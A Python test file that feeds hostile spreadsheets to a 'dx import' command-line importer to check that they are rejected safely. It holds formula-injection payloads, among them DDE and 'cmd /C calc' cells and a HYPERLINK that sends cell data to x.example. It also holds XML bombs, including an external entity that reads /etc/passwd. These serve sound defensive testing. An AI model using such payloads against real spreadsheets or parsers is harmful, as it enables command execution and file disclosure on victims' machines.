"""Hostile spreadsheets for `dx import`: formula injection and serial dates in CSV and XLSX cells get their exact row
errors (and the error report never starts a cell with a formula character); XML bombs and files that are no
workbook end the real `dx import` process with one line and exit code 2; so do out-of-range options.
(`;`-delimited and UTF-16 files are `dx import`'s sniffing, tested beside it.)"""

import csv
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from dx.importer import parse_file
from shared.domain.catalog import load_catalog
from shared.domain.hierarchy import load_hierarchy
from testing.processes import ROOT
from tests.reliability.conftest import Tally

HEADER = ["indicator", "unit", "date", "numerator", "denominator"]
GOOD = ["gov.eid_users", "14755", "2024-03-01", "1", "2"]
FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?q="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            '=DDE("cmd";"/C calc";"x")', "=0x1", "=A1", "+1+1", "=IMPORTXML(A1,\"//a\")"]  # fmt: skip
COLUMNS = {"indicator": 0, "unit": 1, "date": 2, "numerator": 3}
CATALOG, HIERARCHY = load_catalog(), load_hierarchy()


def hostile_rows(kind: str = "csv") -> list[tuple[str, list[object], tuple[str, str]]]:
    """(class, row, (field, reason code) of its one error). In a workbook a cell starting with `=` is a formula,
    never evaluated (its cached value is empty): the cell counts as missing."""
    rows: list[tuple[str, list[object], tuple[str, str]]] = []
    for formula in FORMULAS:
        for column, index in COLUMNS.items():
            row: list[object] = list(GOOD)
            row[index] = formula
            expected = (column, "invalid_field")
            if kind == "xlsx" and formula.startswith("="):
                expected = ("event", "wrong_measure") if column == "numerator" else (column, "missing_field")
            rows.append(("importer.formula_injection", row, expected))
    for serial in range(40_000, 40_100):  # what a spreadsheet shows for a date cell formatted as a number
        rows.append(("importer.serial_date", [*GOOD[:2], str(serial), *GOOD[3:]], ("date", "invalid_field")))
    return rows


def write_csv(path: Path, rows: list[list[object]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([HEADER, *rows])


def write_xlsx(path: Path, rows: list[list[object]]) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in [HEADER, *rows]:
        sheet.append(row)
    workbook.save(path)


def dx_import(*args: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "dx.main", "import", *args, "--collector-url", "http://127.0.0.1:9"]
    env = {"COLUMNS": "300", "PATH": ""}
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120, env=env)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_and_serial_dates_get_their_row_errors(tmp_path: Path, tally: Tally, kind: str) -> None:
    cases = hostile_rows(kind)
    path = tmp_path / f"hostile.{kind}"
    cells: list[list[object]] = [row for _, row, _ in cases]
    if kind == "xlsx":  # numbers as numbers, as a spreadsheet keeps them
        cells = [
            [int(c) if isinstance(c, str) and c.isdigit() and i > 1 else c for i, c in enumerate(r)] for r in cells
        ]
        write_xlsx(path, cells)
    else:
        write_csv(path, cells)
    valid, report = parse_file(path, CATALOG, HIERARCHY)
    assert valid == []
    by_row: dict[int, list[tuple[str, str]]] = {}
    for error in report.errors:
        by_row.setdefault(error.row, []).append((error.field, error.reason.split(":")[0]))
    wrong = []
    for number, ((cls, row, expected), sent) in enumerate(zip(cases, cells, strict=True), start=2):
        got = by_row.get(number, [])
        if not tally.hostile(f"{cls}.{kind}", repr(sent), [expected], got):
            wrong.append((row, expected, got))
    assert not wrong, wrong[:5]


def test_the_error_report_never_starts_a_cell_with_a_formula_character(tmp_path: Path) -> None:
    path, errors = tmp_path / "formulas.csv", tmp_path / "errors.csv"
    write_csv(path, [row for _, row, _ in hostile_rows()])
    run = dx_import(str(path), "--errors", str(errors))
    assert run.returncode == 1, run.stdout + run.stderr  # rows refused locally, nothing to send
    cells = [cell for row in csv.reader(errors.open(encoding="utf-8")) for cell in row]
    assert len(cells) > 3 * len(FORMULAS) and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def bombs() -> dict[str, tuple[str, str]]:
    """Sheet XML that expands entities beyond reason, reaches outside, or is no XML at all; with the start of the one
    line `dx import` answers (an external parameter entity is never fetched: the sheet reads as empty)."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    cell = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">' \
           '<c r="A1" t="inlineStr"><is><t>{}</t></is></c></row></sheetData></worksheet>'  # fmt: skip
    unreadable = "dx import: {name}: "
    dtd = '<?xml version="1.0"?><!DOCTYPE w ['
    return {
        "billion_laughs": (f'{dtd}<!ENTITY l0 "lol">{laughs}]>' + cell.format("&l9;"), unreadable),
        "quadratic_blowup": (f'{dtd}<!ENTITY a "{"x" * 50_000}">]>' + cell.format("&a;" * 50_000), unreadable),
        "external_entity": (f'{dtd}<!ENTITY e SYSTEM "file:///etc/passwd">]>' + cell.format("&e;"), unreadable),
        "parameter_entity": (f'{dtd}<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>' + cell.format("x"),
                             "dx import: missing column(s): "),
        "truncated_xml": (cell.format("x")[:60], unreadable),
    }  # fmt: skip


def test_xml_bombs_and_non_workbooks_end_dx_import_with_one_line_and_exit_2(tmp_path: Path, tally: Tally) -> None:
    template = tmp_path / "template.xlsx"
    write_xlsx(template, [list(GOOD)])
    files: dict[str, tuple[Path, str]] = {}
    for name, (xml, answer) in bombs().items():
        target = tmp_path / f"{name}.xlsx"
        files[f"importer.xml_bomb.{name}"] = target, answer.format(name=target.name)
        with zipfile.ZipFile(template) as src, zipfile.ZipFile(target, "w") as dst:
            for item in src.infolist():
                dst.writestr(item, xml.encode() if item.filename == "xl/worksheets/sheet1.xml" else src.read(item))
    garbage = {"random_bytes": bytes(range(256)) * 40, "empty": b"", "csv_named_xlsx": b"a,b\n1,2\n"}
    for name, content in garbage.items():
        target = tmp_path / f"{name}.xlsx"
        files[f"importer.not_a_workbook.{name}"] = target, f"dx import: {target.name}: "
        target.write_bytes(content)
    wrong = []
    for cls, (path, answer) in files.items():
        run = dx_import(str(path))
        lines = [line for line in (run.stdout + run.stderr).splitlines() if line.strip()]
        got = (run.returncode, len(lines), lines[0].startswith(answer) if lines else False)
        if not tally.hostile(cls, path.read_bytes(), (2, 1, True), got):
            wrong.append((cls, got, lines[:3]))
    assert not wrong, wrong


@pytest.mark.parametrize("batch", ["0", "-1", "1001", "1000000000"])
def test_an_out_of_range_batch_size_is_one_line_and_exit_2(tmp_path: Path, tally: Tally, batch: str) -> None:
    path = tmp_path / "ok.csv"
    write_csv(path, [list(GOOD)])
    run = dx_import(str(path), "--batch", batch)
    lines = [line for line in (run.stdout + run.stderr).splitlines() if line.strip()]
    got = (run.returncode, lines)
    assert tally.hostile("cli.import_batch", batch, (2, ["dx import: --batch must be between 1 and 1000"]), got), got
